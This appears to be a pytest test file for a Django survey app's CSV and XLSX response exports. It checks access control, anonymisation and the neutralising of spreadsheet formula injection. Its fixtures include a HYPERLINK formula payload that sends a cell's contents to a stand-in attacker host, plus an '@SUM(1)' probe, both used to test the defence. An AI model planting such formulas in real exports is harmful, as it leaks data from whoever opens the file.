"""A survey's responses exported to CSV and XLSX: who may, the rows, anonymity, and answers
that would be spreadsheet formulas."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from community.models import AffiliationType, RoleLevel
from community.roles import Role
from ipup.models import Question, Response, Section, Survey, SurveyInvitation
from tests.community.factories import OrganisationFactory, UserFactory
from tests.ipup.factories import NeedFactory, SurveyFactory, needs_questions, submitted_response

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
EXPORTS = ["survey-responses-csv", "survey-responses-xlsx"]


@pytest.fixture
def coordinator(make_member):
    return make_member(AffiliationType.OTHER, roles=[Role.IPUP_COORDINATOR])


@pytest.fixture
def answered(db):
    """A needs survey with every kind of question, two submitted responses and one draft."""
    survey = SurveyFactory(title="Border needs")
    needs = [NeedFactory(title="Drone detection"), NeedFactory(title="Anonymised data sets")]
    rate, comment = needs_questions(survey, needs)
    section = Section.objects.create(survey=survey, title="About you", position=2)

    def question(kind, text, position, **fields):
        return Question.objects.create(
            survey=survey, section=section, kind=kind, text=text, position=position, **fields
        )

    tools = question(Question.Kind.MULTIPLE, "Which tools?", 1, choices=["OSINT", "Forensics"])
    order = question(Question.Kind.RANKING, "Rank the channels", 2, choices=["Mail", "Chat"])
    overall = question(Question.Kind.RATING, "Overall satisfaction", 3)
    officer = UserFactory(
        first_name="Anna",
        last_name="Kowalska",
        email="anna.kowalska@police.example",
        affiliation_type=AffiliationType.LEA,
        role_level=RoleLevel.FIELD,
        country="PL",
        organisation=OrganisationFactory(name="Polish Border Guard", country="PL"),
    )
    first = submitted_response(
        survey,
        officer,
        [
            (rate, needs[0], 5),
            (rate, needs[1], 2),
            (comment, None, FORMULA),
            (tools, None, ["OSINT", "Forensics"]),
            (order, None, ["Chat", "Mail"]),
            (overall, None, 4),
        ],
    )
    chief = UserFactory(
        first_name="Jean",
        last_name="Dupont",
        email="jean.dupont@police.example",
        affiliation_type=AffiliationType.LEA,
        role_level=RoleLevel.STRATEGIC,
        organisation=None,
    )
    second = submitted_response(survey, chief, [(rate, needs[0], 3), (comment, None, "@SUM(1)")])
    # a draft is not a response yet
    drafter = UserFactory(email="draft.only@police.example")
    invitation = SurveyInvitation.objects.create(survey=survey, member=drafter, email=drafter.email)
    Response.objects.create(survey=survey, invitation=invitation)
    return survey, first, second


def _csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def _xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return sheet, [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize(
    ("role", "status"),
    [("lea_member", 404), ("researcher", 404), ("coordinator", 200), ("manager", 200)],
)
def test_only_those_who_run_surveys_export_responses(client_for, request, answered, role, status):
    survey, _first, _second = answered
    client = client_for(request.getfixturevalue(role))

    for name in EXPORTS:
        assert client.get(reverse(f"ipup:{name}", args=[survey.pk])).status_code == status, name


def test_anonymous_visitors_are_sent_to_sign_in(client, answered):
    survey, _first, _second = answered

    for name in EXPORTS:
        response = client.get(reverse(f"ipup:{name}", args=[survey.pk]))
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("account_login"))


def test_the_csv_has_one_row_per_submitted_response(client_for, coordinator, answered):
    survey, first, second = answered

    response = client_for(coordinator).get(reverse("ipup:survey-responses-csv", args=[survey.pk]))

    assert response["Content-Disposition"] == (
        f'attachment; filename="responses-survey-{survey.pk}.csv"'
    )
    header, *rows = _csv_rows(response)
    assert header == [
        "Response",
        "Submitted at",
        "Role level",
        "Affiliation",
        "Country",
        "Organisation",
        "Name",
        "E-mail",
        "How important is each challenge for your unit?: Anonymised data sets",
        "How important is each challenge for your unit?: Drone detection",
        "Anything else?",
        "Which tools?",
        "Rank the channels",
        "Overall satisfaction",
    ]
    assert [row[0] for row in rows] == [str(first.pk), str(second.pk)]  # no draft
    assert rows[0][2:] == [
        "Field / operational",
        "Law enforcement agency",
        "Poland",
        "Polish Border Guard",
        "Anna Kowalska",
        "anna.kowalska@police.example",
        "2",
        "5",
        "'" + FORMULA,  # neutralised
        "OSINT; Forensics",
        "Chat; Mail",
        "4",
    ]
    assert rows[1][2:] == [
        "Strategic / top level",
        "Law enforcement agency",
        "France",
        "",
        "Jean Dupont",
        "jean.dupont@police.example",
        "",
        "3",
        "'@SUM(1)",
        "",
        "",
        "",
    ]
    assert rows[0][1].startswith(str(first.submitted_at.year))


def test_the_xlsx_has_the_same_rows_and_no_formula(client_for, coordinator, answered):
    survey, first, second = answered

    response = client_for(coordinator).get(reverse("ipup:survey-responses-xlsx", args=[survey.pk]))

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet, (header, *rows) = _xlsx_rows(response)
    assert header[:8] == [
        "Response",
        "Submitted at",
        "Role level",
        "Affiliation",
        "Country",
        "Organisation",
        "Name",
        "E-mail",
    ]
    assert [row[0] for row in rows] == [first.pk, second.pk]
    assert rows[0][2:] == [
        "Field / operational",
        "Law enforcement agency",
        "Poland",
        "Polish Border Guard",
        "Anna Kowalska",
        "anna.kowalska@police.example",
        2,
        5,
        FORMULA,  # kept as the respondent wrote it, but as text
        "OSINT; Forensics",
        "Chat; Mail",
        4,
    ]
    assert rows[1][10] == "@SUM(1)"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    formula_cell = sheet.cell(row=2, column=11)
    assert (formula_cell.value, formula_cell.data_type, formula_cell.quotePrefix) == (
        FORMULA,
        "s",
        True,
    )


def test_an_anonymous_survey_exports_no_name_e_mail_organisation_or_segment(
    client_for, coordinator, answered
):
    survey, _first, _second = answered
    Survey.objects.filter(pk=survey.pk).update(is_anonymous=True)
    client = client_for(coordinator)

    as_csv = client.get(reverse("ipup:survey-responses-csv", args=[survey.pk]))
    as_xlsx = client.get(reverse("ipup:survey-responses-xlsx", args=[survey.pk]))

    header, *rows = _csv_rows(as_csv)
    _sheet, (xlsx_header, *xlsx_rows) = _xlsx_rows(as_xlsx)
    # (no role level, affiliation or country: the only invitee of a country would be named)
    assert header[:3] == [
        "Response",
        "Submitted on",
        "How important is each challenge for your unit?: Anonymised data sets",
    ]
    assert xlsx_header == header
    assert len(rows) == len(xlsx_rows) == 2
    # numbered by row, not by id (ids follow the order invitees first saved), and dated only
    today = timezone.localdate()
    assert [row[:2] for row in rows] == [["1", today.isoformat()], ["2", today.isoformat()]]
    assert [(row[0], row[1].date()) for row in xlsx_rows] == [(1, today), (2, today)]
    text = as_csv.content.decode() + repr(xlsx_rows)
    for personal in ("Anna", "Kowalska", "police.example", "Dupont", "Polish Border Guard",
                     "Poland", "Field / operational", "Law enforcement"):  # fmt: skip
        assert personal not in text


def test_a_survey_without_responses_exports_its_header(client_for, coordinator):
    survey = SurveyFactory()
    needs_questions(survey, NeedFactory.create_batch(1))

    response = client_for(coordinator).get(reverse("ipup:survey-responses-csv", args=[survey.pk]))

    assert len(_csv_rows(response)) == 1
